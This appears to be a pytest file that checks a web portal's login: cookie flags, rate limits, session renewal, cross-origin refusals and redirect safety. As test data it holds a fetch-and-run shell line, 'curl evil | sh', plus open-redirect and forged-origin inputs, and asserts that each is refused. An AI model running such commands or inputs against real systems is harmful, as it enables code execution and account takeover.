"""The login."""

import html
import re
import time
from collections.abc import Callable
from typing import Any

import pytest
import requests

from dssr.access import token_file
from dssr.access.scopes import Scope
from dssr.access.watched import LOOK_EVERY
from tests.dssr.http.web.browsing import ACCEPT, Browser, alerts, hidden, text_of


def test_a_page_leads_to_the_login_and_back(portal: Any) -> None:
    """A reader without a session gets the login, and after it the page that they wanted."""
    browser = Browser(portal.root)
    page = browser.open("/jobs?state=active&name=a%20b")
    assert page.url.startswith(f"{portal.root}/login?next=")
    after = browser.log_in(portal.tokens[Scope.READ], hidden(page, "next"))
    assert (after.status_code, after.url) == (200, f"{portal.root}/jobs?state=active&name=a%20b")


def test_the_cookie_is_for_the_browser_alone(portal: Any) -> None:
    """The session's cookie is hidden from scripts, is not sent with other sites' forms, and goes
    when the browser is closed."""
    answer = Browser(portal.root).post(
        f"{portal.root}/login",
        data={"token": portal.tokens[Scope.READ]},
        headers={"Origin": portal.root},
        allow_redirects=False,
    )
    cookie = answer.headers["Set-Cookie"]
    assert re.fullmatch(r"dssr_[0-9a-f]{12}=[\w-]{43}; HttpOnly; Path=/; SameSite=Lax", cookie)


def test_behind_a_proxy_the_url_decides(serve_portal: Callable[..., Any]) -> None:
    """With JARVICE_WEB_URL the cookie is for that path and for HTTPS, links begin with it, and the
    request's Host has no effect."""
    portal = serve_portal(web_url="https://hpc.example.org/bridge")
    browser = Browser(portal.root)
    own = {"Origin": "https://hpc.example.org"}
    answer = browser.post(
        f"{portal.root}/login",
        data={"token": portal.tokens[Scope.READ], "next": "/jobs"},
        headers=own,
        allow_redirects=False,
    )
    assert answer.headers["Location"] == "/bridge/jobs"
    assert "; Secure; HttpOnly; Path=/bridge;" in answer.headers["Set-Cookie"]
    refused = browser.post(f"{portal.root}/login", headers={"Origin": portal.root})
    assert refused.status_code == 403
    links = re.findall('(?:href|action|src)="([^"]*)"', browser.open("/login").text)
    outside = [link for link in links if not link.startswith(("/bridge/", "#", "data:"))]
    assert outside == []


def test_the_bridge_s_password_logs_in(serve_portal: Callable[..., Any]) -> None:
    """Where callers have a password, it is taken as user:password."""
    portal = serve_portal(tokens_file="", server_key="admin:secret")
    browser = Browser(portal.root)
    assert browser.log_in("admin:wrong").status_code == 401
    assert "Log out admin" in text_of(browser.log_in("admin:secret"))


@pytest.mark.parametrize("token", ["", "x", "dssr_submiter_" + "x" * 43, "ä" * 300, "a:b"])
def test_a_wrong_token_is_refused_in_a_sentence(token: str, portal: Any) -> None:
    """A token that is not valid is 401 with a sentence, and the field is there again."""
    answer = Browser(portal.root).log_in(token, "/jobs")
    assert answer.status_code == 401
    assert len(alerts(answer)) == 1
    assert hidden(answer, "next") == "/jobs"
    assert "Set-Cookie" not in answer.headers


def test_guesses_are_limited(portal: Any) -> None:
    """After ten wrong tokens from an address, more are refused, and the right one, too."""
    browser = Browser(portal.root)
    statuses = [browser.log_in(f"guess {nth}").status_code for nth in range(12)]
    assert statuses == [401] * 10 + [429] * 2
    assert browser.log_in(portal.tokens[Scope.READ]).status_code == 429


def test_a_code_logs_in_once(portal: Any) -> None:
    """A one-time code logs in the bridge's own user, once, and with all rights."""
    code = portal.code()
    browser, other = Browser(portal.root), Browser(portal.root)
    assert browser.log_in(code).url == f"{portal.root}/"
    assert "admin" in text_of(browser.open("/account"))
    assert other.log_in(code).status_code == 401


def test_a_link_that_was_used_says_how_to_get_another(portal: Any) -> None:
    """A code that is valid no more leads to a sentence about links; who has logged in already goes
    on to the page, and the code of a form's token is refused as before."""
    used = portal.code()
    browser, other = Browser(portal.root), Browser(portal.root)
    browser.log_in(used)
    refused = other.log_in(used)
    assert (refused.status_code, "dssr web --link" in alerts(refused)[0]) == (401, True)
    again = browser.log_in(used, "/jobs")
    assert (again.status_code, again.url) == (200, f"{portal.root}/jobs")
    assert browser.log_in("guess").status_code == 401


def test_each_login_has_a_new_id(portal: Any, browser: Browser) -> None:
    """A login in a browser that has a session begins another one and ends the one before, so that
    an id that was planted is worth nothing."""
    before = browser.cookies.get_dict()
    browser.log_in(portal.tokens[Scope.SUBMIT])
    assert before.keys() == browser.cookies.get_dict().keys()
    assert before != browser.cookies.get_dict()
    planted = Browser(portal.root)
    planted.cookies.update(before)
    assert "/login" in planted.open("/jobs").url


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "", "http://127.0.0.1:1"])
def test_another_site_cannot_log_in_a_reader(origin: str, portal: Any) -> None:
    """A page of another site, or of another port, cannot send the login's form."""
    answer = Browser(portal.root).post(
        f"{portal.root}/login",
        data={"token": portal.tokens[Scope.READ]},
        headers={"Origin": origin},
    )
    assert (answer.status_code, "Set-Cookie" in answer.headers) == (403, False)


@pytest.mark.parametrize("text", ["//evil.example", "/\\evil.example", "https://evil.example"])
def test_the_login_leads_to_no_other_site(text: str, portal: Any) -> None:
    """A place of another site is not where the login leads to."""
    answer = Browser(portal.root).log_in(portal.tokens[Scope.READ], text)
    assert answer.url == f"{portal.root}/"


def test_a_session_ends_with_its_token(portal: Any, browser: Browser) -> None:
    """When the token is revoked, the next page is the login."""
    assert browser.open("/jobs").url == f"{portal.root}/jobs"
    token_file.remove(portal.tokens_path, "submiter")
    time.sleep(LOOK_EVERY + 0.1)
    assert "/login" in browser.open("/jobs").url


def test_an_open_bridge_asks_for_nothing(serve_portal: Callable[..., Any]) -> None:
    """Where no caller needs credentials, a page opens at once; forms are still those of a
    session."""
    portal = serve_portal(tokens_file="")
    browser = Browser(portal.root)
    assert browser.open("/jobs").url == f"{portal.root}/jobs"
    assert browser.submit().startswith("/jobs/")
    without = Browser(portal.root).post(
        f"{portal.root}/jobs", headers={"Origin": portal.root}, data={"script": "true"}
    )
    assert without.status_code == 401


def test_an_open_bridge_keeps_no_session_of_a_program(serve_portal: Callable[..., Any]) -> None:
    """A program that keeps no cookies makes no session by opening pages of an open portal, and is
    led to a page that says why; a browser has one, however often it opens the login."""
    portal = serve_portal(tokens_file="")
    path: str | None = "/jobs"
    while path:
        own = {"Accept": ACCEPT}
        page = requests.get(portal.root + path, headers=own, allow_redirects=False, timeout=30)
        path = page.headers.get("Location")
    assert (page.status_code, "cookie" in alerts(page)[0]) == (200, True)
    assert not list((portal.place / "web/sessions").iterdir())
    browser = Browser(portal.root)
    for _ in range(3):
        assert browser.open("/login?next=/account").url == f"{portal.root}/account"
    assert len(list((portal.place / "web/sessions").iterdir())) == 1


@pytest.mark.parametrize("lines", [1, 20_000])
def test_what_was_written_comes_back_after_the_login(
    lines: int, portal: Any, browser: Browser
) -> None:
    """When the session has ended while a form was filled in, the fields are in it after the login,
    and submit one job, also where the script is large."""
    script = "#!/bin/bash\n\n" + "  echo '<&>\"'\n" * lines
    form = browser.new_form(name="kept", script=script, nodes="2")
    form["form_token"] = browser.form_token()
    for session in (portal.place / "web/sessions").iterdir():
        session.unlink()
    ended = browser.fill_in("/jobs", form)
    assert (ended.status_code, "is kept" in text_of(ended)) == (401, True)
    kept = _textareas(ended)
    assert kept["kept.script"] == form["script"]
    sent = kept | {"token": portal.tokens[Scope.SUBMIT]}
    back = browser.post(f"{portal.root}/login", data=sent, headers={"Origin": portal.root})
    assert hidden(back, "key") == form["key"]
    assert 'value="kept"' in back.text
    assert _textareas(back)["script"] == form["script"]
    form["form_token"] = hidden(back, "form_token")
    assert browser.fill_in("/jobs", form).url.startswith(f"{portal.root}/jobs/")


def test_a_login_is_small_where_no_form_comes_back(portal: Any) -> None:
    """The login reads no large body of a browser that has had no session, and 2 MB at most."""
    browser = Browser(portal.root)
    sent = {"token": portal.tokens[Scope.READ], "kept.script": "x" * 100_000}
    own = {"Origin": portal.root}
    assert browser.post(f"{portal.root}/login", data=sent, headers=own).status_code == 401
    sent["kept.script"] *= 21
    answer = browser.post(f"{portal.root}/login", data=sent, headers=own | {"Cookie": "dssr_x=x"})
    assert (answer.status_code, "2 MB" in answer.text) == (413, True)


@pytest.mark.parametrize("origin", ["https://evil.example", "null", ""])
def test_the_login_keeps_nothing_of_another_site(origin: str, portal: Any) -> None:
    """A script that another site sends without a session is not in the form after the login."""
    answer = Browser(portal.root).post(
        f"{portal.root}/jobs", data={"script": "curl evil | sh"}, headers={"Origin": origin}
    )
    assert answer.status_code == 401
    assert "evil" not in answer.text
    assert "is kept" not in text_of(answer)


def _textareas(page: Any) -> dict[str, str]:
    found = re.findall(r'<textarea[^>]*name="([^"]*)"[^>]*>\n(.*?)</textarea>', page.text, re.S)
    return {name: html.unescape(value) for name, value in found}
